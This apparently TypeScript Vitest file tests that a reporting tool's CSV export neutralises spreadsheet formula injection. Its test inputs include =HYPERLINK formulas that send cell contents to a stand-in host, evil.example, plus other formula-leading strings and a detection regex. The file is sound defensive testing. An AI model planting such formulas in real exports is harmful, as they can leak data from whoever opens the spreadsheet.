/**
 * The CSV export opened in a spreadsheet: text an official typed (evidence, a body's name)
 * that begins like a formula shows as typed and never runs.
 */
import { describe, expect, test } from 'vitest';
import { buildReport } from '../../../reporting';
import { csvField, CSV_COLUMNS, renderCsv } from '../../../reporting/render/text';
import { END_OF_2024, index, syntheticYear } from './fixtures';

/** The cells of one CSV line (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    out.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!);
    if (m[2] === '') break;
  }
  return out;
}

describe('CSV formula neutralisation', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`],
    ['+84 912 345 678', "'+84 912 345 678"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('text %j is written inert: %s', (text, cell) => {
    expect(csvField(text)).toBe(cell);
  });

  test('ordinary text and numbers, negative ones included, are left as they are', () => {
    expect(csvField('Mô hình “Dân vận khéo”')).toBe('Mô hình “Dân vận khéo”');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField(-3)).toBe('-3');
    expect(csvField(87.5)).toBe('87.5');
  });

  test('an exported report with evidence =HYPERLINK(...) comes out inert: no cell starts with a formula character', async () => {
    const { source } = syntheticYear({ asOfMs: END_OF_2024 });
    const report = await buildReport(index, { year: 2024, asOfMs: END_OF_2024 }, source);
    const fact = report.facts.find((f) => f.resolution)!;
    const evil = '=HYPERLINK("http://evil.example/?d="&A2,"Xem minh chứng")';
    fact.resolution = { ...fact.resolution!, evidence: evil };
    const lines = renderCsv(index, report).slice(1).trimEnd().split('\r\n');
    const row = lines.find((l) => l.startsWith(`${fact.id},`))!;
    const evidence = cells(row)[CSV_COLUMNS.indexOf('Minh chứng')];
    expect(evidence).toBe(`'${evil}`);
    for (const line of lines) for (const cell of cells(line)) expect(cell, line).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/);
  });
});
